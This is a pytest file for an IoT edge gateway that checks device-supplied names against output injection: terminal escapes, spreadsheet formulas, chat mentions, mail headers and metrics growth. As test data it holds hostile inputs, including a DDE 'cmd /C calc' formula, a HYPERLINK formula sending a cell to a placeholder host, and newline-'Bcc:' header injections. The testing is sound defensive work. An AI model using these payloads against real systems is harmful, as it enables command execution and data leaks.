"""Names that a device or a registry brings do nothing where they are shown: on a terminal, in a log, a sheet, a chat, a mail or metrics."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

from edge import dry_run
from edge.gateway import Gateway
from edge.health import HealthStatus, exposition, healthz
from edge.intake.reader import MqttMessage
from edge.store.store import Store
from notify.notice import Notice
from notify.receivers.stdout import Stdout, StdoutSettings
from notify.wording import chat, subject
from pipeline.replay import show
from program import logs, terminal
from schemas.notification import NotificationError, encode, parse
from sql import present
from tests.attack import Attack, number
from tests.edge.gateways import START, config
from tests.notify.alerts import alert

TERMINAL = (
    "\x1b[2J\x1b[H all is well",
    "\x9b2J all is well",
    "\x1b]8;;https://example.org\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "probe\r\n2026-05-01T12:00:00.000000Z INFO tinybeam.edge.run: all is well",
    "probe\u2028all is well",
    "\u202eeborp",
    "\u2066probe\u2069",
    "probe\u200b",
    "probe\x08\x08\x08\x08\x08other",
    "\ud800",
)
FORMULAS = (
    '=HYPERLINK("https://example.org?"&A1,"ok")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
)
MARKS = (
    "<!channel> come",
    "<!everyone>",
    "<@U012AB3CD>",
    "<https://example.org|Mill Field>",
    "@here",
    "@all",
    "[Mill Field](https://example.org)",
    "&lt;!channel&gt;",
)


def _on_terminal(name: str, capsys: pytest.CaptureFixture[str]) -> Iterator[str]:
    """Each way in which a name comes to a terminal."""
    row: dict[str, Any] = {"device": name, "rejects": 1}
    yield present.table(["device"], [row]).splitlines()[-1]
    yield present.as_json([row]).splitlines()[2]
    yield list(show.table([row]))[-1]
    yield dry_run.as_json("rejects", {"device_id": name.replace("\ud800", "")})
    terminal.say(f"ok    broker: {name}")
    Stdout(StdoutSettings(name="stdout")).send(Notice((alert(message=name),)))
    yield from re.split(r"\n", capsys.readouterr().out.removesuffix("\n"))
    for form in ("text", "json"):
        yield _logged(name, form)


def _logged(name: str, form: Any) -> str:
    record = logging.LogRecord("tinybeam.edge.run", logging.INFO, __file__, 1, "probe %s speaks", (name,), None)
    return logs.formatter(form).format(record)


def test_a_name_moves_no_cursor_and_forges_no_line(attack: Attack, capsys: pytest.CaptureFixture[str]) -> None:
    shown = [line for name in TERMINAL for line in _on_terminal(name, capsys)]
    attack(
        "terminal-escape",
        attacker="device",
        attempt="has a name that moves the cursor, sets the title, begins a line of the log or turns the text around",
        outcome="on every way to a terminal, and in both forms of the log, the name comes as escapes in one line",
        attempts=len(shown),
        accepted=sum(not line.isprintable() for line in shown),
        control=f"{sum(not name.isprintable() for name in TERMINAL)} of the {len(TERMINAL)} names do so where they are printed as they are",
    )
    assert len(shown) == 8 * len(TERMINAL)
    assert json.loads(present.as_json([{"device": TERMINAL[0]}])) == [{"device": TERMINAL[0]}]


def test_a_name_is_no_formula_of_a_spreadsheet(attack: Attack) -> None:
    text = present.as_csv(["device", "value"], [{"device": name, "value": -1.5} for name in FORMULAS])
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    cells = [row[0] for row in rows]
    begin = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
    attack(
        "csv-formula",
        attacker="device",
        attempt="has a name that a spreadsheet computes when the answer of a query is opened in it, written by --csv",
        outcome="the name has an apostrophe before it, numbers stay numbers",
        attempts=len(FORMULAS),
        accepted=sum(cell.startswith(begin) for cell in cells),
        control=f"{sum(name.startswith(begin) for name in FORMULAS)} of the {len(FORMULAS)} names begin as formulas do",
    )
    assert [row[1] for row in rows] == ["-1.5"] * len(FORMULAS)


def test_a_name_calls_nobody_in_a_chat_and_links_nowhere(attack: Attack) -> None:
    marks = re.compile(r"<[^>]*>|@\w|\]\(|&(?!amp;|lt;|gt;)")
    texts = [chat(Notice((alert(message=name, site_name=name, device_name=name),))) for name in MARKS]
    attack(
        "chat-mention",
        attacker="device",
        attempt="has a name that calls a whole channel, or shows a link under another name, in Slack and chats like it",
        outcome="the name is shown as it is, and is no mark",
        attempts=len(MARKS),
        accepted=sum(bool(marks.search(text)) for text in texts),
        control=f"as they are, {sum(bool(marks.search(name)) for name in MARKS)} of the {len(MARKS)} names are marks",
    )


def test_a_name_adds_no_header_to_a_mail(attack: Attack) -> None:
    names = [f"probe{end}Bcc: all@example.com" for end in ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028")]
    taken = [name for name in names if _is_taken(name)]
    mail = EmailMessage()
    mail["Subject"] = subject(Notice((alert(message="Bcc: all@example.com"),)))
    attack(
        "mail-header",
        attacker="publisher",
        attempt="publishes an alert whose message goes on in a new line, as a header of a mail",
        outcome="no notification: its text must be one line",
        attempts=len(names),
        accepted=len(taken),
        control="the same message in one line is taken, and is the subject of a mail without that header",
    )
    assert _is_taken("Bcc: all@example.com")
    assert mail["Bcc"] is None


def _is_taken(message: str) -> bool:
    try:
        return parse(encode(alert(message=message))[1]).message == message
    except NotificationError:
        return False


def test_names_that_devices_invent_add_no_line_to_metrics(tmp_path: Path, attack: Attack) -> None:
    invented, quiet = number(300, 5_000), _metrics_after(tmp_path / "quiet", 0)
    loud = _metrics_after(tmp_path / "loud", invented)
    attack(
        "metrics-cardinality",
        attacker="device",
        attempt="invents a name for each of its messages",
        outcome="/metrics and /healthz have no line and no member more: no name of a device is in them",
        attempts=invented,
        accepted=loud[0] - quiet[0] + loud[1] - quiet[1],
        control=f"{loud[2]:,} of the readings were heard and counted",
    )
    assert loud[2] == invented


def _metrics_after(folder: Path, names: int) -> tuple[int, int, int]:
    """Lines of /metrics, members of /healthz, readings heard."""
    with closing(Store(folder / "store.db", "gw-1", 64 << 20)) as store:
        gateway = Gateway(config(folder), store, START)
        for at in range(names):
            reading = {"time": START.isoformat(), "seq": 1, "values": {"moisture": 0.3}}
            gateway.accept([MqttMessage(f"sensors/d{at}/readings", json.dumps(reading).encode())], START)
        beat = gateway.heartbeat(datetime(2026, 5, 1, 12, tzinfo=UTC))
    status = HealthStatus(beat)
    heard = beat.readings_stored + beat.readings_rejected
    return exposition(status).count("\n"), len(healthz(status, 0.0)[1]), heard
